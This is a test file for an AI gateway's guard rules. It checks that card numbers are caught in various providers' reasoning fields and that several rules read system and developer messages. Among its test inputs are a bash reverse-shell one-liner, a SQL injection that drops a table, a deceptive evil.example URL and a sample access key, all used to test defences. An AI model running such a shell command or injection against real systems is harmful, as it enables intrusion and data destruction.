/** Every text of a payload is inspected, whichever member, role or encoding carries it. */
import { expect, test } from "bun:test";
import { makeRuled } from "../kit/guard.ts";
import { sharedKit } from "../kit/kit.ts";

const kit = sharedKit();
const CARD = "Card 4111 1111 1111 1111";

/** Where the wire formats carry what a model thinks. */
const THOUGHTS: [style: string, payload: object][] = [
  ["Anthropic thinking", message([{ type: "thinking", thinking: CARD, signature: "c2ln" }])],
  ["a reasoning part", message([{ type: "reasoning", text: CARD }])],
  ["reasoning_content", message("", { reasoning_content: CARD })],
  ["reasoning", message("", { reasoning: CARD })],
  ["reasoning_details", message("", { reasoning_details: [{ text: CARD }] })],
  ["Cohere tool_plan", message("", { tool_plan: CARD })],
  ["Bedrock reasoningContent", message([{ reasoningContent: { reasoningText: { text: CARD } } }])],
  ["Google thought", { contents: [{ role: "model", parts: [{ text: CARD, thought: true }] }] }],
  [
    "a Responses reasoning item",
    { input: [{ type: "reasoning", summary: [{ type: "summary_text", text: CARD }] }] },
  ],
];

test.each(THOUGHTS)("%s is inspected in both directions", async (_, payload) => {
  const input = await makeRuled(await kit(), "data_loss_prevention");
  const output = await makeRuled(await kit(), "data_loss_prevention", { direction: "output" });

  const verdicts = [
    await input.evaluate({ payload }),
    await output.evaluate({ payload, direction: "output" }),
  ];

  expect(verdicts.map(({ status }) => status)).toEqual(["block", "block"]);
});

test.each([
  ["data_loss_prevention", CARD, {}],
  ["secrets", "AKIAIOSFODNN7EXAMPLQ is the key", {}],
  ["code_sanitation", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", {}],
  ["injection_protection", "' OR 1=1; DROP TABLE users; --", {}],
  ["url_analyzer", "See https://bank.example@evil.example/", {}],
  ["prompt_moderation", "the forbidden word", { keywords: ["forbidden word"] }],
])("%s reads system and developer messages", async (kind, text, settings) => {
  const guard = await makeRuled(await kit(), kind, { settings });

  for (const role of ["system", "developer"]) {
    const payload = { messages: [{ role, content: text }] };
    expect((await guard.evaluate({ payload })).status).toBe("block");
  }
  expect((await guard.evaluate({ payload: { system: text, messages: [] } })).status).toBe("block");
});

function message(content: unknown, more: object = {}): object {
  return { messages: [{ role: "assistant", content, ...more }] };
}
